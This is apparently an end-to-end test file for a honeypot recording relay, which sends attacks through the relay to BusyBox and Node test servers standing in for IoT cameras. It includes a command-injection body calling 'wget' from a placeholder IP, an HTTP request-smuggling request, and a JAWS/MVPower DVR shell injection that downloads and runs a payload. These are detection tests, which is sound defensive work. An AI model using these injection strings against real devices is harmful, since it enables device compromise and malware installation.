// End to end: real web servers behind hachi's HTTP recording relay. BusyBox httpd with a CGI page
// that runs what it is given (like a vulnerable device page) and a keep-alive Node HTTP server stand
// in for devices; real curl and a raw socket attack them. Each request and response is recorded
// (mode 'real'), malformed and smuggling requests with their raw bytes, and the bytes reach the device untouched.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile, spawn, type ChildProcess } from 'node:child_process';
import { chmod, mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { promisify } from 'node:util';
import { startHachi, type RunningHachi } from './hachi-process.ts';
import { startPayloadServer, type PayloadServer } from '../../src/testing/payload-server.ts';
import { storedEvents } from './stored-events.ts';
import { createHash } from 'node:crypto';
import { freePort, waitForPort } from './loopback-ports.ts';
import { CAMERA } from './personas.ts';

const run = promisify(execFile);
let httpd: ChildProcess;
let keepAlive: Server;
let busyboxPort = 0;
let keepAlivePort = 0;
let hachi: RunningHachi;
let payloads: PayloadServer;
const DROPPED = '\x7fELF real-device exploit payload';

// The CGI page: echoes the method, the query and the posted body, as a device's diagnostic page would.
const PING_CGI = '#!/bin/sh\nprintf "Content-Type: text/plain\\r\\n\\r\\n"\necho "method=$REQUEST_METHOD query=$QUERY_STRING"\nif [ "$REQUEST_METHOD" = POST ]; then head -c "$CONTENT_LENGTH"; echo; fi\n';

before(async () => {
  const www = await mkdtemp(join(tmpdir(), 'hachi-http-device-'));
  await mkdir(join(www, 'cgi-bin'));
  await writeFile(join(www, 'index.html'), '<html><title>NETSurveillance WEB</title></html>\n');
  await writeFile(join(www, 'cgi-bin', 'ping.cgi'), PING_CGI);
  await chmod(join(www, 'cgi-bin', 'ping.cgi'), 0o755);
  busyboxPort = await freePort();
  httpd = spawn('busybox', ['httpd', '-f', '-p', `127.0.0.1:${busyboxPort}`, '-h', www], { stdio: 'ignore' });
  // BusyBox closes after each answer; this one keeps connections alive.
  keepAlive = createServer((req, res) => {
    res.setHeader('Server', 'GoAhead-Webs');
    res.end(`page ${req.url ?? ''}\n`);
  });
  keepAlivePort = await new Promise<number>((resolve) => keepAlive.listen(0, '127.0.0.1', () => resolve((keepAlive.address() as { port: number }).port)));
  await waitForPort(busyboxPort);
  payloads = await startPayloadServer({ '/bins/mips': DROPPED });
  hachi = await startHachi([{ name: 'camera', persona: CAMERA.id, loginFailureDelayMs: 0 }], {
    services: [{ name: 'camera', protocol: 'telnet', host: '127.0.0.1', port: 0, persona: CAMERA.id }],
    fetch: { allow: ['127.0.0.1/32'] },
    devices: [
      { name: 'cam-web', product: 'XM IPC (lab unit)', firmware: 'V4.02.R11', address: '127.0.0.1', persona: CAMERA.id, services: [{ protocol: 'http', host: '127.0.0.1', port: 0, devicePort: busyboxPort, http: { maxBodyBytes: 1024 } }] },
      { name: 'cam-ka', product: 'GoAhead camera', firmware: '2.5', address: '127.0.0.1', services: [{ protocol: 'http', host: '127.0.0.1', port: 0, devicePort: keepAlivePort }] },
      { name: 'cam-one', product: 'XM IPC (fragile prototype)', firmware: '0.1', address: '127.0.0.1', persona: CAMERA.id, maxSessions: 1, admitWaitMs: 100, services: [{ protocol: 'http', host: '127.0.0.1', port: 0, devicePort: keepAlivePort }] },
    ],
  });
});

after(async () => {
  await hachi.stop();
  httpd.kill();
  keepAlive.closeAllConnections();
  keepAlive.close();
  await payloads.close();
});

const relayPort = (device: string, port: number): number => {
  const match = new RegExp(`${device}:${port}\\s.*listening on [^\\s]*:(\\d+)`).exec(hachi.output());
  assert.ok(match, hachi.output());
  return Number(match[1]);
};

interface Row {
  readonly type: string;
  readonly mode: string;
  readonly protocol: string;
  readonly session: string;
  readonly data: Record<string, unknown>;
}

/** HTTP events of a device's sessions with a request matching `request` (SQL on data), waiting until `count` are there. */
async function httpEvents(device: string, count: number, request: string): Promise<Row[]> {
  const db = new DatabaseSync(join(hachi.dataDir, 'hachi.db'), { readOnly: true });
  try {
    const deadline = Date.now() + 10_000;
    for (;;) {
      const found = (db.prepare(`SELECT type, mode, protocol, session, data FROM events WHERE persona = ? AND type IN ('http.request', 'http.response') AND session IN (SELECT session FROM events WHERE type = 'http.request' AND ${request}) ORDER BY id`).all(device) as Record<string, unknown>[]).map(
        (r): Row => ({ type: String(r.type), mode: String(r.mode), protocol: String(r.protocol), session: String(r.session), data: JSON.parse(String(r.data)) as Record<string, unknown> }),
      );
      if (found.length >= count || Date.now() > deadline) return found;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  } finally {
    db.close();
  }
}

const curl = async (...args: string[]): Promise<string> => (await run('curl', ['-s', '--max-time', '5', ...args])).stdout;

test('GET with a query and POST with a body reach the CGI page; requests and responses are recorded', async () => {
  const port = relayPort('cam-web', busyboxPort);
  assert.equal(await curl(`http://127.0.0.1:${port}/cgi-bin/ping.cgi?ip=1.2.3.4&cmd=ping`), 'method=GET query=ip=1.2.3.4&cmd=ping\n');
  assert.equal(await curl('-d', 'ip=1.2.3.4;wget http://198.51.100.7/x.sh', `http://127.0.0.1:${port}/cgi-bin/ping.cgi?x=1`), 'method=POST query=x=1\nip=1.2.3.4;wget http://198.51.100.7/x.sh\n');
  const events = await httpEvents('cam-web', 4, "json_extract(data, '$.path') = '/cgi-bin/ping.cgi' AND json_extract(data, '$.error') IS NULL");
  assert.deepEqual(events.map((e) => e.type), ['http.request', 'http.response', 'http.request', 'http.response']);
  assert.ok(events.every((e) => e.mode === 'real' && e.protocol === 'http'));
  const [get, getAnswer, post, postAnswer] = events.map((e) => e.data);
  assert.deepEqual(
    { ...get, headers: (get!.headers as string[][]).map(([n]) => n) },
    { seq: 1, method: 'GET', path: '/cgi-bin/ping.cgi', query: 'ip=1.2.3.4&cmd=ping', version: 'HTTP/1.1', headers: ['Host', 'User-Agent', 'Accept'], body: '', bodyBytes: 0, truncated: false, raw: null, error: null },
  );
  // The CGI answer has no length: read until BusyBox closes.
  assert.deepEqual([getAnswer!.seq, getAnswer!.status, getAnswer!.body, getAnswer!.truncated], [1, 200, 'method=GET query=ip=1.2.3.4&cmd=ping\n', false]);
  assert.ok(typeof getAnswer!.durationMs === 'number' && getAnswer!.durationMs >= 0);
  assert.deepEqual([post!.method, post!.query, post!.body, post!.bodyBytes], ['POST', 'x=1', 'ip=1.2.3.4;wget http://198.51.100.7/x.sh', 40]);
  assert.deepEqual((post!.headers as string[][]).at(-1), ['Content-Type', 'application/x-www-form-urlencoded']);
  assert.deepEqual([postAnswer!.status, postAnswer!.body], [200, 'method=POST query=x=1\nip=1.2.3.4;wget http://198.51.100.7/x.sh\n']);
});

test('HEAD: the device answers headers only, recorded without a body', async () => {
  const port = relayPort('cam-web', busyboxPort);
  const head = await curl('-I', `http://127.0.0.1:${port}/index.html`);
  assert.match(head, /^HTTP\/1\.1 200 OK/);
  const [request, response] = await httpEvents('cam-web', 2, "json_extract(data, '$.method') = 'HEAD'");
  assert.equal(request?.data.method, 'HEAD');
  assert.equal(response?.data.seq, 1);
  assert.deepEqual((response?.data.headers as string[][]).find(([n]) => n === 'Content-Length'), ['Content-Length', '48']);
  assert.equal(response?.data.body, '');
});

test('two requests on one keep-alive connection (curl url1 url2) are seq 1 and 2 of one session', async () => {
  const port = relayPort('cam-ka', keepAlivePort);
  const out = await run('curl', ['-sv', '--max-time', '5', `http://127.0.0.1:${port}/a?x=1`, `http://127.0.0.1:${port}/b`]);
  assert.equal(out.stdout, 'page /a?x=1\npage /b\n');
  assert.match(out.stderr, /Re-using existing connection/);
  const events = await httpEvents('cam-ka', 4, "json_extract(data, '$.path') = '/a'");
  assert.deepEqual(events.map((e) => [e.type, e.data.seq, e.data.path ?? e.data.body]), [
    ['http.request', 1, '/a'], ['http.response', 1, 'page /a?x=1\n'], ['http.request', 2, '/b'], ['http.response', 2, 'page /b\n'],
  ]);
  assert.equal(new Set(events.map((e) => e.session)).size, 1);
  assert.deepEqual((events[1]!.data.headers as string[][])[0], ['Server', 'GoAhead-Webs']);
});

test('a smuggling request (Content-Length with Transfer-Encoding) is recorded as malformed with its raw bytes, and reaches the device untouched', async () => {
  const port = relayPort('cam-web', busyboxPort);
  const attack = 'POST /cgi-bin/ping.cgi?s=1 HTTP/1.1\r\nHost: cam\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG';
  const answer = await new Promise<string>((resolve, reject) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(attack));
    let text = '';
    socket.on('data', (c: Buffer) => (text += c.toString('latin1')));
    socket.on('error', reject);
    socket.on('close', () => resolve(text));
  });
  // BusyBox went by Content-Length: the CGI got the six bytes as they were sent.
  assert.match(answer, /method=POST query=s=1\n0\r\n\r\nG/);
  const [request, response] = await httpEvents('cam-web', 2, "json_extract(data, '$.error') IS NOT NULL");
  assert.ok(request, 'no malformed request recorded');
  assert.equal(request.data.raw, attack);
  assert.match(String(request.data.error), /smuggling/);
  assert.deepEqual([request.data.method, request.data.path, request.data.seq], ['POST', '/cgi-bin/ping.cgi', 1]);
  assert.deepEqual([response?.data.seq, response?.data.status], [1, 200]);
  assert.equal(hachi.child.exitCode, null);
});

test('an exploit sent to the real device is detected (mode real), and its payload is followed to the sample', async () => {
  const port = relayPort('cam-web', busyboxPort);
  const url = `http://127.0.0.1:${payloads.port}/bins/mips`;
  // The JAWS/MVPower DVR shell injection: the device's BusyBox httpd answers 404; hachi still fetches the sample.
  await run('curl', ['-s', '-g', '-o', '/dev/null', '--max-time', '5', `http://127.0.0.1:${port}/shell?cd+/tmp;wget+${url};sh+/tmp/mips`]);
  const [detected] = await storedEvents(hachi, 'exploit.detected', (e) => e.persona === 'cam-web', 1);
  assert.deepEqual([detected?.mode, detected?.data['signature'], detected?.data['payload']], ['real', 'jaws-mvpower-dvr-shell', `cd /tmp;wget ${url};sh /tmp/mips`]);
  // Affected is judged by the device's model (its fallback persona's class: an IP camera).
  assert.equal(detected?.data['affected'], (detected?.data['classes'] as string[]).includes('ip-camera'));
  const [fetched] = await storedEvents(hachi, 'download.fetch', (e) => e.session === detected!.session && e.data['url'] === url, 1);
  assert.deepEqual([fetched?.data['outcome'], fetched?.data['sha256']], ['ok', createHash('sha256').update(DROPPED).digest('hex')]);
});

test('while the device is at its session limit, a new HTTP attacker is served by the fallback persona web server, and the events say so', async () => {
  const port = relayPort('cam-one', keepAlivePort);
  // The first attacker holds the device's only session on a keep-alive connection.
  const first = connect({ host: '127.0.0.1', port });
  first.on('error', () => undefined);
  await new Promise((resolve) => first.once('connect', resolve));
  first.write('GET /first HTTP/1.1\r\nHost: cam\r\n\r\n');
  await new Promise((resolve) => first.once('data', resolve));
  const { stdout } = await run('curl', ['-s', '-i', '--max-time', '5', `http://127.0.0.1:${port}/`]);
  first.destroy();
  assert.match(stdout, /^HTTP\/1\.0 200 OK\r\n[^]*Server: uc-httpd 1\.0\.0\r\n/, 'the emulated camera answered');
  const [unavailable] = await storedEvents(hachi, 'relay.unavailable', (e) => e.persona === 'cam-one', 1);
  assert.deepEqual([unavailable?.data['state'], unavailable?.data['served']], ['full', 'persona']);
  const emulated = await storedEvents(hachi, 'http.request', (e) => e.mode === 'emulated' && e.persona === CAMERA.id && e.data['path'] === '/', 1);
  assert.equal(emulated.length, 1);
});
